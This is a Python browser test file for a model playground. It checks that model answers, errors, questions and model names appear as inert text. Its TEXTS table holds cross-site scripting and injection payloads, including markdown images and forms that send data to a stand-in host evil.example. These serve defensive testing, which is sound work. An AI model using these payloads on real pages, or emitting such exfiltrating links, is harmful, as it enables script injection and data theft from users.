"""Whatever a model, an error or a name says, it is shown as text."""

import pytest
from playwright.sync_api import BrowserContext, expect

from slm.errors import ModelFailed
from tests.browser.playground import Playground
from tests.browser.scripted_model import ScriptedModel, says
from tests.browser.site import site_with

SCRIPT = "<script>window.ran = true</script>"
IMAGE = '<img src="x" onerror="window.ran = true">'

TEXTS = {
    "script": SCRIPT,
    "image": IMAGE,
    "svg": "<svg onload='window.ran = true'><a href='javascript:window.ran=1'>x</a></svg>",
    "frame": "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
    "closing": "</p></div></article></main></body></html><h1>Owned</h1>",
    "style": "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "form": "<form action=https://evil.example><input name=key></form>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;",
    "markdown image": "![x](https://evil.example/pixel.png?secret) <https://evil.example>",
    "markdown link": "[click](javascript:window.ran=true)",
    "template": "{{constructor.constructor('window.ran = true')()}} ${window.ran = 1}",
    "comment": "<!-- <script>window.ran = true</script> --> <![CDATA[ x ]]>",
    "emoji": "\U0001f469\u200d\U0001f52c \U0001f1ea\U0001f1fa é \U00020000",
    "right to left": "שלום עולם, مرحبا \u202eevil\u202c abc",
    "controls": "a\tb \u0007 \u200b \ufeff end",
    "long line": "x" * 20_000,
    "many lines": "\n".join(str(n) for n in range(2000)),
    "event lines": "data: [DONE]\nevent: end\ndata: {}",
}


def runs_nothing(playground: Playground) -> bool:
    """Whether no text became markup: no script ran, and the page holds only its own elements."""
    ran = playground.page.evaluate("window.ran")
    alien = "article :is(script, img, svg, iframe, style, link, form, input, a, b, h1)"
    return ran is None and playground.page.locator(alien).count() == 0


@pytest.mark.parametrize("name", TEXTS)
def test_in_the_answer(playground: Playground, model: ScriptedModel, name: str) -> None:
    text = TEXTS[name]
    middle = len(text) // 2
    model.script = says(text[:middle], text[middle:])
    playground.ask("Say something nasty.")
    playground.expect_complete()
    assert playground.answer.text_content() == text
    assert runs_nothing(playground)
    assert playground.fits_width()


def test_piece_by_piece(playground: Playground, model: ScriptedModel) -> None:
    text = "".join(TEXTS[name] for name in ("script", "image", "svg", "emoji"))
    model.script = says(*text)
    playground.ask("Say something nasty.")
    playground.expect_complete()
    assert playground.answer.text_content() == text
    assert runs_nothing(playground)


def test_in_code(playground: Playground, model: ScriptedModel) -> None:
    model.script = says(f"```html\n{SCRIPT}\n{IMAGE}\n</pre></code>\n```\n")
    playground.ask("Show me.")
    playground.expect_complete()
    assert playground.answer.locator("pre").text_content() == f"{SCRIPT}\n{IMAGE}\n</pre></code>"
    assert runs_nothing(playground)


def test_in_an_error(playground: Playground, model: ScriptedModel) -> None:
    model.script = [ModelFailed(IMAGE + SCRIPT)]
    playground.ask("Hello")
    expect(playground.problem).to_contain_text(IMAGE + SCRIPT)
    assert runs_nothing(playground)


def test_in_the_question(playground: Playground) -> None:
    playground.ask(IMAGE + SCRIPT)
    playground.expect_complete()
    expect(playground.turn).to_contain_text(IMAGE + SCRIPT)
    assert runs_nothing(playground)


def test_in_the_name_of_the_model(context: BrowserContext, model: ScriptedModel) -> None:
    with site_with(model, served_model_name=IMAGE, weights=SCRIPT) as site:
        playground = Playground(context, site.url)
        playground.open()
        playground.enter_key(site.key)
        expect(playground.model).to_have_text(f"{IMAGE}, answered by {SCRIPT}")
        playground.ask("Hello")
        playground.expect_complete()
        assert runs_nothing(playground)
        assert playground.page.locator("header img, header script").count() == 0
        assert playground.faults == []
